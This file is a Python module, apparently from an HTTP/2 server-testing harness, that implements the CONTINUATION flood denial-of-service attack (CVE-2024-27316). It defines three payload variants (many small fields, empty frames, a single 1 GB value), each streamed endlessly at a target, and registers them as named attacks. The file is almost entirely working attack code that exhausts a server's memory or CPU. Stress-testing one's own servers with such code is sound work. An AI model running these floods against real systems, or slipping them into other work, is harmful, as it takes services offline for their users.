"""CONTINUATION flood (CVE-2024-27316 and its siblings): a field block that never ends.

Nothing of such a head can be forwarded or refused by its content; a server that gathers it runs out
of memory, one that decodes and drops it runs out of time.
"""

from hyperframe.frame import ContinuationFrame

from peer import Peer, integer, request


def _attack(payload):
    def attack(target, pace):
        peer = Peer(target)
        stream = peer.begin_block(request(b"/attack/head"))
        part = payload(peer, stream)
        while pace.goes_on(peer):
            peer.send(ContinuationFrame(stream, data=part))
        return peer

    attack.__doc__ = payload.__doc__
    return attack


def fields(peer, stream):
    """Frames of 16 KB, each with many small fields."""
    literal = b"\x00\x08x-filler\x10" + b"v" * 16
    return literal * (16_000 // len(literal))


def empty(peer, stream):
    """Frames without a byte in them."""
    return b""


def one_value(peer, stream):
    """Frames of 16 KB, all of them within one value of 1 GB."""
    start = b"\x00\x05x-big" + integer(1 << 30)
    peer.send(ContinuationFrame(stream, data=start))
    return b"v" * 16_000


ATTACKS = {
    "continuation-fields": _attack(fields),
    "continuation-empty": _attack(empty),
    "continuation-one-value": _attack(one_value),
}
